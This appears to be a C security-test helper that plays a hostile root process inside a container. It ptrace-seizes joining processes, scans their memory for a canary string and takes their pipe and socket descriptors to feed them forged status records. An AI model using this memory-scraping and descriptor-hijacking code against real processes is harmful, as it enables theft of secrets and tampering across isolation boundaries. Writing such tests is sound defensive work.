/* SPDX-License-Identifier: MIT */
/* scraper DIR: the hostile process of tests/security/21-split.sh. Root in a
 * container given CAP_SYS_PTRACE, it watches its own pid namespace for new
 * processes. Every one that does not yet run a binary of the container (nsh's
 * joining process before its execve) is stopped with PTRACE_SEIZE +
 * PTRACE_INTERRUPT and then:
 *   - its whole readable memory (/proc/P/maps, process_vm_readv) is searched
 *     for "nsht-canary-": a hit means nsh's heap (another container's
 *     config it read) came along into the container;
 *   - every pipe or socket among its descriptors 3.. is taken, by
 *     open("/proc/P/fd/N") or else pidfd_getfd(), and (DIR/mode "forge")
 *     fed forged status records, {0 (a cgroup failure), EPERM} and
 *     {-1 (B's PID), the PID in DIR/decoy}, or (mode "hold") only kept open
 *     (any other mode: left alone). Every
 *     descriptor taken is held until the container dies.
 * Log lines in DIR/log: "NEW pid=P exe=...", "SEIZED pid=P exe=...",
 * "SCRAPED pid=P bytes=N", "FOUND pid=P text=...", "TOOK pid=P fd=N how=...
 * link=... wrote=N", "DENIED what pid=P errno". DIR/ready appears once the
 * PIDs already present are taken as seen. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include "procwalk.h"

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

#define NEEDLE "nsht-canary-"

static char *chunk;
#define CHUNK (1 << 20)

/* Is P's binary one of this container's files (same inode at the path the
 * link names)? Anything else is nsh's, before its execve. */
static bool exe_local(int pid, char *link, size_t size)
{
	char p[64];
	struct stat a, b;
	snprintf(p, sizeof p, "/proc/%d/exe", pid);
	ssize_t n = readlink(p, link, size - 1);
	link[n > 0 ? n : 0] = 0;
	if (n <= 0 || stat(p, &a) < 0)
		return n <= 0; /* gone, or a kernel thread: nothing to do */
	return link[0] == '/' && stat(link, &b) == 0 && a.st_dev == b.st_dev &&
	       a.st_ino == b.st_ino;
}

static void scrape(int pid)
{
	char p[64], line[512];
	snprintf(p, sizeof p, "/proc/%d/maps", pid);
	FILE *f = fopen(p, "re");
	if (!f) {
		logf_("DENIED maps pid=%d %s", pid, strerror(errno));
		return;
	}
	unsigned long long total = 0, skipped = 0;
	int found = 0;
	while (fgets(line, sizeof line, f)) {
		unsigned long lo, hi;
		char perms[8];
		if (sscanf(line, "%lx-%lx %7s", &lo, &hi, perms) != 3 || perms[0] != 'r')
			continue;
		if (strstr(line, "[vvar]") || strstr(line, "[vsyscall]"))
			continue;
		/* Sanitizer shadow (terabytes, reserved, never a heap chunk):
		 * reading it would keep the process stopped for hours. */
		if (hi - lo > (1ul << 30)) {
			skipped += hi - lo;
			continue;
		}
		/* Overlap the chunks by the needle's length less one. */
		for (unsigned long at = lo; at < hi;) {
			size_t want = hi - at > CHUNK ? CHUNK : hi - at;
			struct iovec l = { chunk, want }, r = { (void *)at, want };
			ssize_t n = process_vm_readv(pid, &l, 1, &r, 1, 0);
			if (n <= 0)
				break;
			total += (unsigned long long)n;
			for (char *s = chunk; (s = memmem(s, (size_t)n - (size_t)(s - chunk),
							  NEEDLE, strlen(NEEDLE)));
			     s++) {
				char text[64];
				size_t k = 0;
				for (char *c = s; c < chunk + n && k < 48 && *c > 32 && *c < 127;
				     c++)
					text[k++] = *c;
				text[k] = 0;
				if (found++ < 8)
					logf_("FOUND pid=%d addr=%#lx text=%s", pid,
					      at + (unsigned long)(s - chunk), text);
			}
			if ((size_t)n < want)
				break;
			at += (unsigned long)n -
			      (hi - at > (unsigned long)n ? strlen(NEEDLE) - 1 : 0);
			if ((size_t)n <= strlen(NEEDLE))
				break;
		}
	}
	fclose(f);
	logf_("SCRAPED pid=%d bytes=%llu skipped=%llu found=%d", pid, total, skipped, found);
}

static void take_fds(int pid)
{
	char mode[32] = "", decoy[32] = "";
	file_exists("mode", mode, sizeof mode);
	file_exists("decoy", decoy, sizeof decoy);
	bool forge = strcmp(mode, "forge") == 0;
	if (!forge && strcmp(mode, "hold") != 0)
		return;
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	for (int n = 3; n < 256; n++) {
		char p[64], link[256];
		snprintf(p, sizeof p, "/proc/%d/fd/%d", pid, n);
		ssize_t l = readlink(p, link, sizeof link - 1);
		if (l <= 0)
			continue;
		link[l] = 0;
		if (strncmp(link, "pipe:", 5) && strncmp(link, "socket:", 7))
			continue;
		const char *how = "open";
		int fd = open(p, O_WRONLY | O_NONBLOCK | O_CLOEXEC);
		int e = errno;
		if (fd < 0 && pidfd >= 0) {
			how = "getfd";
			fd = (int)syscall(SYS_pidfd_getfd, pidfd, n, 0);
		}
		if (fd < 0) {
			logf_("DENIED fd pid=%d fd=%d link=%s open:%s getfd:%s", pid, n, link,
			      strerror(e), strerror(errno));
			continue;
		}
		fcntl(fd, F_SETFL, O_NONBLOCK);
		ssize_t wrote = 0;
		if (forge) {
			int rec[4] = { 0, EPERM, -1, atoi(decoy) };
			wrote = write(fd, rec, sizeof rec);
			if (wrote < 0)
				wrote = -errno;
		}
		/* Held, never closed: the pipe stays open for as long as we live. */
		logf_("TOOK pid=%d fd=%d how=%s link=%s mode=%s wrote=%zd", pid, n, how, link, mode,
		      wrote);
	}
	if (pidfd >= 0)
		close(pidfd);
}

static void on_alarm(int sig)
{
	(void)sig;
}

static void handle(int pid)
{
	char link[512];
	set_seen(pid);
	if (pid == getpid())
		return;
	bool local = exe_local(pid, link, sizeof link);
	logf_("NEW pid=%d local=%d exe=%s", pid, local, link);
	if (local)
		return;
	long r = ptrace(PTRACE_SEIZE, pid, 0, 0);
	if (r < 0) {
		logf_("DENIED ptrace pid=%d %s", pid, strerror(errno));
		/* The descriptors may still be reachable without a stop. */
		take_fds(pid);
		return;
	}
	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	int wst = 0;
	alarm(3);
	pid_t w = waitpid(pid, &wst, __WALL);
	alarm(0);
	bool stopped = w == pid && WIFSTOPPED(wst);
	exe_local(pid, link, sizeof link);
	logf_("SEIZED pid=%d stopped=%d exe=%s", pid, stopped, link);
	scrape(pid);
	take_fds(pid);
	if (stopped)
		ptrace(PTRACE_DETACH, pid, 0, 0);
	else
		ptrace(PTRACE_DETACH, pid, 0, 0);
	/* Reap nothing: our tracees are not our children. */
}

int main(int argc, char **argv)
{
	if (argc != 2)
		return 2;
	dir = argv[1];
	chunk = malloc(CHUNK);
	char p[512];
	snprintf(p, sizeof p, "%s/log", dir);
	logfd = open(p, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
	if (logfd < 0 || !chunk)
		return 1;
	struct sigaction sa = { .sa_handler = on_alarm };
	sigaction(SIGALRM, &sa, NULL);
	signal(SIGCHLD, SIG_IGN);
	scan_proc(NULL);
	snprintf(p, sizeof p, "%s/ready", dir);
	int fd = open(p, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	if (fd >= 0)
		close(fd);
	logf_("READY last=%d", last);
	struct timespec t0, t1;
	clock_gettime(CLOCK_MONOTONIC, &t0);
	for (;;) {
		/* PIDs come in order: spin on the next few, far faster than /proc. */
		for (int p2 = last + 1; p2 <= last + 32 && p2 < MAXPID; p2++) {
			if (is_seen(p2) || kill(p2, 0) < 0)
				continue;
			handle(p2);
			if (p2 > last)
				last = p2;
		}
		clock_gettime(CLOCK_MONOTONIC, &t1);
		if ((t1.tv_sec - t0.tv_sec) * 1000000000L + (t1.tv_nsec - t0.tv_nsec) > 50000000L) {
			scan_proc(handle);
			t0 = t1;
		}
	}
}
